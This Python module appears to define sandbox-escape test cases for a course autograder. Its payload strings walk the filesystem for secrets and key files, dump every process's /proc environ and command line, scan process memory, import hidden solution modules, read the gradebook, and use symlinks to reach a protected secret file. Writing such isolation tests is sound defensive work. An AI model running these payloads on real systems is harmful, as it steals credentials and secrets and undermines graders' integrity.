"""Reading what is not the student's: tests, solutions, other people's work, secrets, the parent process."""

import os

from attacks.attack import Attack, before, within

SECRET = "../../../.course-secret"

SHOW = """
import os
from pathlib import Path
def show(*paths):
    for path in paths:
        try:
            data = Path(path).read_bytes()[:20000]
            print(path, data.decode(errors="replace").replace("\\0", "\\n"))
        except OSError as error:
            print(path, type(error).__name__)
"""
WALK = (
    SHOW
    + """
skip = ("/proc", "/sys", "/usr", "/lib", "/bin", "/sbin", "/dev", os.path.dirname(os.__file__))
seen = 0
for top in ("$COURSE", "$CANARY", "/"):
    for folder, folders, files in os.walk(top):
        if folder.startswith(skip) or "site-packages" in folder:
            folders[:] = []
            continue
        for name in files:
            if name.endswith((".ipynb", ".txt", ".json", ".db", ".pem")) or "secret" in name:
                seen += 1
                if seen < 200:
                    show(os.path.join(folder, name))
"""
)
PROC = (
    SHOW
    + """
for pid in sorted({"self", "1", str(os.getppid()), *(name for name in os.listdir("/proc") if name.isdigit())}):
    show(f"/proc/{pid}/environ", f"/proc/{pid}/cmdline")
    for link in ("root$CANARY/word.txt", "cwd/.course-secret", "root$COURSE/.course-secret"):
        show(f"/proc/{pid}/{link}")
print(dict(os.environ))
"""
)
MEMORY = """
import os, re
for pid in sorted({1, os.getppid(), *(int(name) for name in os.listdir("/proc") if name.isdigit())} - {os.getpid()}):
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for line in maps:
                low, high = (int(part, 16) for part in line.split()[0].split("-"))
                if " rw" in line and high - low < 50_000_000:
                    memory.seek(low)
                    for found in re.findall(rb"word-[a-z0-9-]+", memory.read(high - low)):
                        print(found.decode())
    except (OSError, ValueError, OverflowError) as error:
        print(pid, type(error).__name__)
"""
OWN = """
import gc, re, sys
for thing in gc.get_objects():
    try:
        for found in re.findall(r"word-[a-z0-9-]+", repr(thing)[:5000]):
            print(found)
    except Exception:
        pass
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        low, high = (int(part, 16) for part in line.split()[0].split("-"))
        if " rw" in line and high - low < 200_000_000:
            try:
                memory.seek(low)
                data = memory.read(high - low)
            except OSError:
                continue
            for found in re.findall(rb"wo" + rb"rd-[a-z0-9-]{6,}", data):
                print(found.decode())
"""
SOLUTIONS = """
import importlib, sys
sys.path += ["$COURSE", "$COURSE/build/source", *(path + "/.." for path in list(sys.path) if path)]
for name in ("solutions.mlp", "solutions", "grader.checks.mlp.softmax", "grader.judging.judge"):
    try:
        module = importlib.import_module(name)
        softmax = getattr(module, "softmax", None) or (lambda logits: module.oracle(logits))
        break
    except ImportError as error:
        print(error)
else:
    def softmax(logits):
        return logits * 0.0
"""
DATABASE = """
import json, sqlite3
for path in ("$COURSE/gradebook.db", "gradebook.db", "../gradebook.db", "../../gradebook.db"):
    try:
        for row in sqlite3.connect(f"file:{path}?mode=ro", uri=True).execute("select * from source_cell"):
            print(row)
    except sqlite3.Error as error:
        print(path, error)
"""
EXPECTED = """
import json, os, numpy as np
from pathlib import Path
from course.probe import decode
request = Path(os.environ.get("COURSE_PROBE_REQUEST", "/none"))
for path in (request, *request.parent.glob("*"), *Path("/inputs").glob("*")):
    try:
        found = json.loads(path.read_text())
    except OSError:
        continue
    print(sorted(found))
    for key in ("expected", "answer", "labels", "oracle"):
        if key in found:
            return np.asarray(decode(found[key]))
"""


def _closed(folder, canary):
    os.mkdir("in")
    os.symlink(f"../{SECRET}", "in/secret.txt")
    os.chmod("in", 0o555)


ATTACKS = [
    before("reading-walk", WALK),
    before("reading-proc", PROC),
    before("reading-memory", MEMORY),
    before("reading-own", OWN),
    Attack("reading-solutions", {"softmax": SOLUTIONS}),
    before("reading-gradebook", DATABASE),
    within("reading-expected", EXPECTED),
    before(
        "reading-links",
        SHOW + 'show("secret.txt", "outside/word.txt", "submission/../../../.course-secret")\nprint(os.listdir("."))',
        beside=lambda folder, canary: [os.symlink(SECRET, "secret.txt"), os.symlink(canary, "outside")],
    ),
    before("reading-linkinclosedfolder", SHOW + 'show("in/secret.txt")', beside=_closed),
    Attack(
        "reading-linkfornotebook", {}, beside=lambda folder, canary: [os.unlink("mlp.ipynb"), os.symlink(SECRET, "mlp.ipynb")]
    ),
    Attack("reading-linkfordate", {}, beside=lambda folder, canary: os.symlink(SECRET, "timestamp.txt")),
]
